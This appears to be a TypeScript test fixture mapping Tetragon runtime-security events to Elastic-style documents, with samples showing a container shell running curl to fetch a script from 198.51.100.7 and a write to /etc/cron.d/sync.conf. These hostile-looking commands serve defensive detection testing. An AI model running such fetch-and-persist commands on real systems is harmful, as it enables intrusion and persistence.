import type { JsonObject } from '../../../events/json.ts';
import type { Sample } from '../suite.testing.ts';

const POD = {
  namespace: 'shop',
  name: 'cart-7d9c4-x2x9q',
  uid: '0d6b5c2e-5f0a-4a52-9d1a-2f7f0f6f3b11',
  container: {
    id: 'containerd://4be1a7c09d3f52e86a7714cc90b2de51837f06a94be1a7c09d3f52e86a7714cc',
    name: 'cart',
    image: {
      id: 'registry.example/shop/cart@sha256:5d41402abc4b2a76b9719d911017c592aaaabbbbccccddddeeeeffff00001111',
      name: 'registry.example/shop/cart:1.4.2',
    },
    start_time: '2026-05-04T08:00:00Z',
    pid: 27,
  },
  pod_labels: { app: 'cart' },
  workload: 'cart',
  workload_kind: 'Deployment',
};

const CURL = {
  exec_id: 'bm9kZS1hOjgxMjM0NTY3ODkwMTIzOjQxMDIy',
  pid: 41_022,
  uid: 1000,
  cwd: '/app',
  binary: '/usr/bin/curl',
  arguments: '-s "http://198.51.100.7/a b.sh"',
  flags: 'execve clone',
  start_time: '2026-05-04T10:15:30.123456789Z',
  auid: 4_294_967_295,
  pod: POD,
  docker: '4be1a7c09d3f52e86a7714cc90b2de5',
  parent_exec_id: 'bm9kZS1hOjgxMjM0NTAwMDAwMDAwOjQxMDEw',
  tid: 41_022,
};

const SHELL = {
  exec_id: 'bm9kZS1hOjgxMjM0NTAwMDAwMDAwOjQxMDEw',
  pid: 41_010,
  uid: 1000,
  cwd: '/app',
  binary: '/bin/sh',
  flags: 'execve rootcwd clone',
  start_time: '2026-05-04T10:15:22Z',
  auid: 4_294_967_295,
};

/** A process start, as Tetragon exports it. */
export const EXEC = {
  process_exec: { process: CURL, parent: SHELL },
  node_name: 'node-a',
  time: '2026-05-04T10:15:30.123456789Z',
  cluster_name: 'prod',
} satisfies JsonObject;

const HOST = { name: 'node-a', hostname: 'node-a', os: { type: 'linux' } };

const CONTEXT = {
  host: HOST,
  container: {
    id: '4be1a7c09d3f52e86a7714cc90b2de51837f06a94be1a7c09d3f52e86a7714cc',
    name: 'cart',
    image: { name: 'registry.example/shop/cart', tag: ['1.4.2'] },
  },
  orchestrator: {
    type: 'kubernetes',
    cluster: { name: 'prod' },
    namespace: 'shop',
    resource: {
      type: 'pod',
      id: '0d6b5c2e-5f0a-4a52-9d1a-2f7f0f6f3b11',
      name: 'cart-7d9c4-x2x9q',
      label: ['app:cart'],
      parent: { type: 'Deployment', name: 'cart' },
    },
  },
  user: { id: '1000' },
};

const CURL_PROCESS = {
  entity_id: 'bm9kZS1hOjgxMjM0NTY3ODkwMTIzOjQxMDIy',
  pid: 41_022,
  start: '2026-05-04T10:15:30.123456789Z',
  executable: '/usr/bin/curl',
  name: 'curl',
  args: ['curl', '-s', 'http://198.51.100.7/a b.sh'],
  working_directory: '/app',
  user: { id: '1000' },
};

const SHELL_PROCESS = {
  entity_id: 'bm9kZS1hOjgxMjM0NTAwMDAwMDAwOjQxMDEw',
  pid: 41_010,
  start: '2026-05-04T10:15:22.000Z',
  executable: '/bin/sh',
  name: 'sh',
  args: ['sh'],
  working_directory: '/app',
  user: { id: '1000' },
};

const GUESSES = { reconstructed: ['process.args', 'process.parent.args'] };

function headOf(time: string, dataset: string, event: JsonObject): JsonObject {
  return {
    '@timestamp': time,
    event: { kind: 'event', module: 'tetragon', dataset: `tetragon.${dataset}`, ...event },
    data_stream: { type: 'logs', dataset: `tetragon.${dataset}`, namespace: 'default' },
  };
}

const START = { category: ['process'], type: ['start'], action: 'exec' };

const exec: Sample = {
  name: 'the start of a program',
  records: [EXEC],
  documents: [
    {
      ...headOf('2026-05-04T10:15:30.123456789Z', 'process', START),
      ...CONTEXT,
      process: { ...CURL_PROCESS, parent: SHELL_PROCESS },
      dockwarden: GUESSES,
    },
  ],
};

const CURL_ALONE = Object.fromEntries(
  Object.entries(CURL).filter(([key]) => !['pod', 'docker', 'tid'].includes(key)),
);

const exit: Sample = {
  name: 'the end of a process by a signal',
  records: [
    {
      process_exit: {
        process: CURL_ALONE,
        signal: 'SIGKILL',
        status: 9,
        time: '2026-05-04T10:15:31.5Z',
      },
      node_name: 'node-a',
      time: '2026-05-04T10:15:31.5Z',
    },
  ],
  documents: [
    {
      ...headOf('2026-05-04T10:15:31.500Z', 'process', {
        category: ['process'],
        type: ['end'],
        action: 'end',
      }),
      host: HOST,
      process: {
        ...CURL_PROCESS,
        exit_code: 9,
        end: '2026-05-04T10:15:31.500Z',
        parent: { entity_id: 'bm9kZS1hOjgxMjM0NTAwMDAwMDAwOjQxMDEw' },
      },
      labels: { signal: 'SIGKILL' },
      user: { id: '1000' },
      dockwarden: { reconstructed: ['process.args'] },
    },
  ],
};

const orphan: Sample = {
  name: 'a start without its parent, which ran before the sensor',
  records: [
    {
      process_exec: { process: { ...SHELL, flags: 'procFS auid rootcwd' } },
      node_name: 'node-a',
      time: '2026-05-04T10:15:25Z',
    },
    { ...EXEC, process_exec: { process: CURL } },
  ],
  documents: exec.documents.map((document) => ({
    ...document,
    process: { ...CURL_PROCESS, parent: SHELL_PROCESS },
  })),
};

export const PROBE = {
  process: CURL,
  parent: SHELL,
  function_name: 'security_file_permission',
  args: [{ file_arg: { path: '/etc/cron.d/sync.conf', permission: '-rw-r--r--' } }, { int_arg: 2 }],
  return: { int_arg: 0 },
  action: 'KPROBE_ACTION_POST',
  policy_name: 'container-files',
  return_action: 'KPROBE_ACTION_POST',
} satisfies JsonObject;

/** The event of a policy, in place of a process start. */
export function probed(probe: JsonObject, key = 'process_kprobe'): JsonObject {
  const { node_name, time, cluster_name } = EXEC;
  return { [key]: probe, node_name, time, cluster_name };
}

const write: Sample = {
  name: 'a write to a file',
  records: [probed(PROBE)],
  documents: [
    {
      ...headOf('2026-05-04T10:15:30.123456789Z', 'file', {
        category: ['file'],
        type: ['change'],
        action: 'modification',
      }),
      ...CONTEXT,
      rule: { name: 'container-files' },
      file: { path: '/etc/cron.d/sync.conf', name: 'sync.conf', extension: 'conf' },
      process: { ...CURL_PROCESS, parent: SHELL_PROCESS },
      dockwarden: GUESSES,
    },
  ],
};

const alert: Sample = {
  name: 'a probe of a policy',
  records: [
    probed({
      process: CURL,
      parent: SHELL,
      function_name: 'tcp_connect',
      args: [{ sock_arg: { family: 'AF_INET', daddr: '198.51.100.7', dport: 80 } }],
      action: 'KPROBE_ACTION_POST',
      policy_name: 'connections',
      message: 'A connection to the outside',
      tags: ['observability.connection'],
    }),
  ],
  documents: [
    {
      ...headOf('2026-05-04T10:15:30.123456789Z', 'alerts', {
        kind: 'alert',
        category: ['intrusion_detection'],
        type: ['info'],
        action: 'tcp_connect',
      }),
      ...CONTEXT,
      message: 'A connection to the outside',
      tags: ['observability.connection'],
      rule: { name: 'connections' },
      process: { ...CURL_PROCESS, parent: SHELL_PROCESS },
      dockwarden: GUESSES,
    },
  ],
};

const hostProcess: Sample = {
  name: 'a program on the host, with credentials, names of users and ancestors',
  records: [
    {
      process_exec: {
        process: {
          exec_id: 'bm9kZS1hOjk6Nw==',
          pid: 7,
          uid: 0,
          cwd: '/srv',
          binary: './run.sh',
          arguments: 'now',
          flags: 'execve clone inInitTree',
          start_time: '2026-05-04T10:15:30.5Z',
          auid: 1001,
          parent_exec_id: 'bm9kZS1hOjg6Ng==',
          in_init_tree: false,
          process_credentials: { uid: 1001, gid: 100, euid: 0, egid: 5 },
          user: { name: 'root' },
        },
        ancestors: [
          { exec_id: 'bm9kZS1hOjc6NQ==', binary: '/sbin/init' },
          { exec_id: 'bm9kZS1hOjg6Ng==', pid: 6, binary: '/bin/bash', arguments: '-l' },
        ],
      },
      node_name: 'node-a',
      time: '2026-05-04T10:15:30.500001Z',
    },
  ],
  documents: [
    {
      ...headOf('2026-05-04T10:15:30.500001Z', 'process', START),
      host: HOST,
      process: {
        entity_id: 'bm9kZS1hOjk6Nw==',
        pid: 7,
        start: '2026-05-04T10:15:30.500Z',
        executable: '/srv/run.sh',
        name: 'run.sh',
        args: ['run.sh', 'now'],
        working_directory: '/srv',
        user: { id: '0' },
        group: { id: '5' },
        real_user: { id: '1001' },
        real_group: { id: '100' },
        parent: {
          entity_id: 'bm9kZS1hOjg6Ng==',
          pid: 6,
          executable: '/bin/bash',
          name: 'bash',
          args: ['bash', '-l'],
        },
      },
      user: { id: '0', name: 'root', audit: { id: '1001' } },
      group: { id: '5' },
      tetragon: { in_init_tree: false },
      dockwarden: GUESSES,
    },
  ],
};

export const SAMPLES: readonly Sample[] = [exec, exit, orphan, write, alert, hostProcess];
